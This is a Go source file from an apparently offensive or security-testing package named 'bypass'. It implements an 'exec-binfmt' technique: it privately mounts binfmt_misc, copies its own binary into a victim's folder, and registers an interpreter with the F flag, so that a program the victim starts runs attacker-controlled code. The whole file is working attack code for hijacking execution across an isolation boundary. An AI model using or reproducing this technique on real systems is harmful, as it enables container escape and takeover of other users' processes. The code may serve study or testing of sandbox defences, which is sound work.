package accesspath

import (
	"errors"
	"fmt"
	"path/filepath"

	"golang.org/x/sys/unix"

	"svc.example/bypass/internal/kernel"
	"svc.example/bypass/internal/victim"
)

var execBinfmt = Path{
	Name: "exec-binfmt", Title: "a binfmt_misc interpreter (flag F) for a program that the victim then starts",
	Kind: toInterpreter, Needs: []string{needsTool},
	walk: func(a *attempt) ([]byte, error) {
		formats, err := mountFormats(a.victim.Folder)
		if err != nil {
			return nil, err
		}
		// the kernel opens it at its registration, so that the container need not have it
		interpreter := filepath.Join(a.victim.Folder, victim.ToolPrefix+"interpreter")
		if err := copySelf(interpreter); err != nil {
			return nil, err
		}
		name := fmt.Sprintf("bypass%d", a.victim.PID)
		extension := filepath.Ext(a.victim.Tool)[1:]
		format := fmt.Sprintf(":%s:E::%s::%s:F", name, extension, interpreter)
		defer func() { _ = writeOnce(filepath.Join(formats, name), "-1") }()
		return betrayed(a, func() error { return writeOnce(filepath.Join(formats, "register"), format) })
	},
}

// mountFormats mounts the file system, which the whole machine has once, where nobody else sees it.
func mountFormats(folder string) (string, error) {
	if err := kernel.PrivateMounts(); err != nil {
		return "", err
	}
	if err := unix.Mount("binfmt_misc", filepath.Join(folder, "work"), "binfmt_misc", 0, ""); err != nil {
		if errors.Is(err, unix.ENODEV) {
			return "", unavailable("mount: %w", err)
		}
		return "", fmt.Errorf("mount: %w", err)
	}
	return filepath.Join(folder, "work"), nil
}

func writeOnce(path, text string) error {
	descriptor, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open: %w", err)
	}
	defer unix.Close(descriptor)
	if _, err := unix.Write(descriptor, []byte(text)); err != nil {
		return fmt.Errorf("write: %w", err)
	}
	return nil
}
